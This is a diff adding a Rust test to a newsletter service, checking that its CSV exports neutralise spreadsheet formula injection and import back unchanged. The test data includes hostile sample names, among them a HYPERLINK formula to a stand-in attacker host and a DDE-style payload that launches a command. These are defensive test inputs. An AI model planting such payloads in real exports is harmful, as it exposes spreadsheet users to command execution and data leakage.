@@ -245,3 +245,143 @@ async fn the_api_needs_its_token_and_manages_the_list() {
         .unwrap();
     assert_eq!(gone.status(), 404);
 }
+
+/// What the public form lets anyone type, aimed at whoever opens the export in a spreadsheet.
+const HOSTILE_SIGNUPS: [(&str, &str); 5] = [
+    (
+        "formula@example.org",
+        "=HYPERLINK(\"https://evil.example/?x\",\"Click me\")",
+    ),
+    ("plus@example.org", "+1+cmd|' /C calc'!A0"),
+    ("minus@example.org", "-2+3"),
+    ("at@example.org", "@SUM(1,2)"),
+    ("=2+5@example.org", "'=quoted already"),
+];
+
+/// Every cell of a CSV document, checked as a spreadsheet would see it; returns the rows.
+fn spreadsheet_safe_rows(what: &str, csv_text: &str) -> Vec<Vec<String>> {
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(csv_text.as_bytes());
+    let rows: Vec<Vec<String>> = reader
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect();
+    for cell in rows.iter().flatten() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{what}: {cell:?} would run as a formula:\n{csv_text}"
+        );
+    }
+    for line in csv_text.lines() {
+        assert!(
+            line.starts_with('"') && line.ends_with('"'),
+            "{what}: every cell quoted: {line}"
+        );
+    }
+    rows
+}
+
+#[tokio::test]
+async fn names_from_the_public_form_never_run_as_formulas_in_any_export_and_import_back_unchanged() {
+    let app = spawn_app().await;
+    for (email, name) in HOSTILE_SIGNUPS {
+        let response = app
+            .client
+            .post(app.url("/subscribe"))
+            .form(&[("email", email), ("name", name), ("frequency", "weekly")])
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(response.status(), 200, "{email}");
+    }
+
+    // The API's export, the console's, and the command line's.
+    let token = herald::admin::create_token(&app.app.db, "export").await.unwrap();
+    let api = app
+        .client
+        .get(app.url("/admin/api/subscribers/export"))
+        .bearer_auth(&token)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(api.status(), 200);
+    let api = api.text().await.unwrap();
+    herald::admin::create_user(&app.app.db, "ops@example.org", "the right passphrase")
+        .await
+        .unwrap();
+    let login = app
+        .client
+        .post(app.url("/admin/login"))
+        .form(&[("email", "ops@example.org"), ("password", "the right passphrase")])
+        .send()
+        .await
+        .unwrap();
+    let session = login.headers()["set-cookie"]
+        .to_str()
+        .unwrap()
+        .split(';')
+        .next()
+        .unwrap()
+        .to_owned();
+    let console = app
+        .client
+        .get(app.url("/admin/subscribers/export.csv"))
+        .header("cookie", session)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(console.status(), 200);
+    let console = console.text().await.unwrap();
+    let config = app.dir.path().join("config.toml");
+    let cli = tokio::task::spawn_blocking(move || {
+        std::process::Command::new(env!("CARGO_BIN_EXE_herald"))
+            .env_remove("HERALD_CONFIG")
+            .env("HERALD_LOG", "warn")
+            .arg("--config")
+            .arg(config)
+            .args(["subscribers", "export"])
+            .output()
+            .unwrap()
+    })
+    .await
+    .unwrap();
+    assert!(cli.status.success(), "{}", String::from_utf8_lossy(&cli.stderr));
+    let cli = String::from_utf8(cli.stdout).unwrap();
+
+    for (what, text) in [("API export", &api), ("console export", &console), ("CLI export", &cli)] {
+        let rows = spreadsheet_safe_rows(what, text);
+        assert_eq!(rows.len(), 1 + HOSTILE_SIGNUPS.len(), "{what}");
+        for (email, name) in HOSTILE_SIGNUPS {
+            assert!(
+                rows.iter()
+                    .any(|r| r[0] == herald::import::neutralise(email) && r[1] == format!("'{name}")),
+                "{what}: {email} with its name behind one quote:\n{text}"
+            );
+        }
+    }
+
+    // The export imports back as it was: into the same list, nothing changes; into a new
+    // list, every name and address arrives exactly as typed.
+    let same = import(&app, api.as_bytes(), ImportOptions::default()).await.unwrap();
+    assert_eq!(
+        (same.added, same.updated, same.unchanged, same.failed.len()),
+        (0, 0, HOSTILE_SIGNUPS.len(), 0),
+        "{same:#?}"
+    );
+    let other = spawn_app().await;
+    let moved = import(&other, api.as_bytes(), ImportOptions::default()).await.unwrap();
+    assert_eq!(
+        (moved.added, moved.failed.len()),
+        (HOSTILE_SIGNUPS.len(), 0),
+        "{moved:#?}"
+    );
+    for (email, name) in HOSTILE_SIGNUPS {
+        let s = herald::store::subscribers::find_by_email(&other.app.db, &EmailAddress::parse(email).unwrap())
+            .await
+            .unwrap()
+            .unwrap_or_else(|| panic!("{email} imported"));
+        assert_eq!(s.email.as_str(), email);
+        assert_eq!(s.name.as_deref(), Some(name), "{email}");
+    }
+}
